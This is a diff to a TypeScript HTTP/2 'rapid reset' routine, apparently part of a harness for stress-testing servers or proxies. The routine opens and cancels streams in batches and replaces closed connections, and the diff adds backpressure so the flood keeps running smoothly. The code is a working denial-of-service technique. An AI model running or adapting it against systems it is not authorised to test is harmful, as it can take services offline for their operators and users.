@@ -156,15 +156,20 @@ export interface RapidResetCounts {
     /** Streams opened and cancelled at once (RST_STREAM with CANCEL). */
     streams: number;
     goaways: number;
+    /** Ticks skipped because the server had not yet taken the last streams' frames (it stopped reading). */
+    waits: number;
     errors: string[];
 }
 
 /**
  * HTTP/2 rapid reset: on one connection at a time, `batch` streams opened and cancelled at once every `intervalMs`,
  * until `maxStreams` in all; a connection the server closes (e.g. with GOAWAY) is replaced, at most `maxSessions`.
+ * A tick is skipped while more than `batch` × 4 streams are not closed yet (their frames unsent: the server stopped
+ * reading): Node's HTTP/2 client takes time quadratic in such streams to destroy its session (measured: 59 s of
+ * CPU, the event loop blocked, with ~20,000 queued against a proxy stuck at its memory limit).
  */
 export function startRapidReset(target: Target, ctx: tls.SecureContext, o: { batch: number; intervalMs: number; maxStreams: number; maxSessions: number }) {
-    const c: RapidResetCounts = { sessions: 0, streams: 0, goaways: 0, errors: [] };
+    const c: RapidResetCounts = { sessions: 0, streams: 0, goaways: 0, waits: 0, errors: [] };
     let stopping = false;
     let current: http2.ClientHttp2Session | undefined;
     const connected = (s: http2.ClientHttp2Session) => new Promise<boolean>((resolve) => {
@@ -181,11 +186,15 @@ export function startRapidReset(target: Target, ctx: tls.SecureContext, o: { bat
             c.sessions++;
             s.on("goaway", () => c.goaways++);
             s.on("error", (e) => noteError(c.errors, e));
+            let unclosed = 0;
             if (await connected(s)) {
                 while (!stopping && !s.closed && !s.destroyed && c.streams < o.maxStreams) {
                     try {
-                        for (let i = 0; i < o.batch; i++) {
+                        if (unclosed > o.batch * 4) c.waits++;
+                        else for (let i = 0; i < o.batch; i++) {
                             const req = s.request({ ":path": "/", ":method": "GET" });
+                            unclosed++;
+                            req.on("close", () => unclosed--);
                             req.on("error", () => undefined);
                             req.close(http2.constants.NGHTTP2_CANCEL);
                             c.streams++;
